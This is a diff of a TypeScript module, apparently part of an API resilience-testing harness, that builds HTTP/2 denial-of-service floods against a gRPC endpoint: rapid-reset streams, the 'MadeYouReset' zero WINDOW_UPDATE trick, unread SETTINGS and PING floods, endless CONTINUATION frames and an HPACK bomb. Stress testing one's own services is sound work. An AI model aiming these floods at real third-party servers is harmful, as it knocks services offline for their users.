@@ -1,28 +1,28 @@
-/** What HTTP/2 lets a caller ask for with a few bytes: streams that are taken back, and frames that want an answer. */
+/** HTTP/2 attacks with small frames: streams that are reset at once, and floods of control frames. */
 import type { Socket } from 'node:net';
 import { setTimeout as sleep } from 'node:timers/promises';
-import { type Attack, Notes, type Run, seconds } from '../attack';
+import { type Attack, Findings, type Run, seconds } from '../attack';
 import {
-  converse,
   FLAG,
   grpcHeaders,
   h2Frame,
   headerBlock,
   int32,
+  openConnection,
   PREFACE,
   setting,
   TYPE,
   write,
-} from '../frames';
+} from '../http2-frames';
 
-const HTTP1 = 'It speaks HTTP/1.1 alone, and has no frames.';
+const HTTP1 = 'It uses HTTP/1.1 only.';
 const FLOOD_MS_MAX = 8000;
 const CANCEL = 8;
 const BATCH = 200;
 
 const hello = Buffer.concat([PREFACE, h2Frame(TYPE.settings, FLAG.none, 0)]);
 
-/** `make` gives the frames of one step; what it does to streams is numbered from 0. */
+/** Writes `first` and then the frames that `make` returns for each index from 0. */
 const flood = async (
   socket: Socket,
   frames: number,
@@ -39,7 +39,7 @@ interface Flood {
   readonly name: string;
   readonly make: (index: number) => Buffer;
   readonly first?: Buffer;
-  /** Answers are left where they are, so that the server has to keep them. */
+  /** False if the client does not read responses, so that the server must buffer them. */
   readonly reads?: boolean;
 }
 
@@ -47,24 +47,24 @@ const streamOf = (index: number): number => 2 * index + 1;
 
 const RESETS: readonly Flood[] = [
   {
-    name: 'with its headers',
+    name: 'reset after HEADERS',
     make: (index) => {
       const open = h2Frame(TYPE.headers, FLAG.endHeaders, streamOf(index), grpcHeaders('ListSkills'));
       return Buffer.concat([open, h2Frame(TYPE.reset, FLAG.none, streamOf(index), int32(CANCEL))]);
     },
   },
   {
-    name: 'with its call',
+    name: 'reset after the call',
     make: (index) => {
       const stream = streamOf(index);
       const open = h2Frame(TYPE.headers, FLAG.endHeaders, stream, grpcHeaders('ListSkills'));
-      const ask = h2Frame(TYPE.data, FLAG.endStream, stream, Buffer.alloc(5));
-      return Buffer.concat([open, ask, h2Frame(TYPE.reset, FLAG.none, stream, int32(CANCEL))]);
+      const request = h2Frame(TYPE.data, FLAG.endStream, stream, Buffer.alloc(5));
+      return Buffer.concat([open, request, h2Frame(TYPE.reset, FLAG.none, stream, int32(CANCEL))]);
     },
   },
   {
-    // The server takes it back itself, as WINDOW_UPDATE by 0 is an error of the stream ("MadeYouReset").
-    name: 'by an error of ours',
+    // The server resets the stream itself, because a WINDOW_UPDATE by 0 is a stream error ("MadeYouReset").
+    name: 'reset by the server',
     make: (index) => {
       const open = h2Frame(TYPE.headers, FLAG.endHeaders, streamOf(index), grpcHeaders('ListSkills'));
       return Buffer.concat([open, h2Frame(TYPE.windowUpdate, FLAG.none, streamOf(index), int32(0))]);
@@ -74,8 +74,8 @@ const RESETS: readonly Flood[] = [
 
 const open = h2Frame(TYPE.headers, FLAG.none, 1, grpcHeaders('GetSkill'));
 const began = h2Frame(TYPE.headers, FLAG.endHeaders, 1, grpcHeaders('GetSkill'));
-/** 4 KB that HPACK remembers as entry 62, and then a thousand times one byte that stands for it. */
-const remembered = Buffer.concat([
+/** A header of 4 KB that HPACK stores as entry 62. Later frames refer to it a thousand times with one byte each. */
+const storedHeader = Buffer.concat([
   Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x1e]),
   Buffer.alloc(4000, 'x'),
   grpcHeaders('GetSkill').subarray(0, 0),
@@ -105,40 +105,46 @@ const FLOODS: readonly Flood[] = [
   {
     name: 'HPACK bomb',
     make: (index) => {
-      const block = index === 0 ? remembered : Buffer.alloc(1000, 0xbe);
+      const block = index === 0 ? storedHeader : Buffer.alloc(1000, 0xbe);
       return h2Frame(TYPE.headers, FLAG.endHeaders | FLAG.endStream, streamOf(index), block);
     },
   },
   { name: 'unknown frames', make: () => h2Frame(0xee, 0xff, 0, Buffer.alloc(100)) },
-  { name: 'no HTTP/2', first: Buffer.from('GET / HTTP/1.1\r\n\r\n'), make: () => Buffer.alloc(100, 'x') },
+  {
+    name: 'bytes that are not HTTP/2',
+    first: Buffer.from('GET / HTTP/1.1\r\n\r\n'),
+    make: () => Buffer.alloc(100, 'x'),
+  },
 ];
 
 const floods =
   (kinds: readonly Flood[]): Run =>
   async ({ address }, { frames, patienceMs }) => {
-    const notes = new Notes();
+    const findings = new Findings();
     await Promise.all(
       kinds.map(async ({ name, make, first, reads = true }) => {
-        const { socket, ended } = converse(address.grpc);
+        const { socket, ended } = openConnection(address.grpc);
         if (!reads) socket.pause();
-        // A server that reads no further holds up the flood itself.
+        // A server that stops reading blocks the flood.
         await Promise.race([flood(socket, frames, make, first), sleep(FLOOD_MS_MAX)]);
         socket.resume();
         const { how, afterMs } = await ended(patienceMs);
-        notes.see(`${name}: ${how}${how === 'borne' ? '' : ` after ${seconds(afterMs)}`}`);
+        findings.record(`${name}: ${how}${how === 'kept open' ? '' : ` after ${seconds(afterMs)}`}`);
       }),
     );
-    return notes.finding();
+    return findings.finding();
   };
 
 export const rapidReset: Attack = {
   name: 'HTTP/2 rapid reset',
-  sent: '20,000 streams, each opened and taken back at once: by RST_STREAM, or by an error that makes the server do it',
+  description:
+    '20,000 streams, each opened and reset at once: by RST_STREAM, or by an error that makes the server reset it',
   on: { rest: HTTP1, graphql: HTTP1, grpc: floods(RESETS), soap: HTTP1 },
 };
 
 export const frameFloods: Attack = {
   name: 'HTTP/2 floods',
-  sent: '20,000 frames of each kind: SETTINGS and PING whose answers nobody reads, CONTINUATION without end, HPACK bombs',
+  description:
+    '20,000 frames of each kind: SETTINGS and PING whose replies are not read, endless CONTINUATION, HPACK bombs',
   on: { rest: HTTP1, graphql: HTTP1, grpc: floods(FLOODS), soap: HTTP1 },
 };
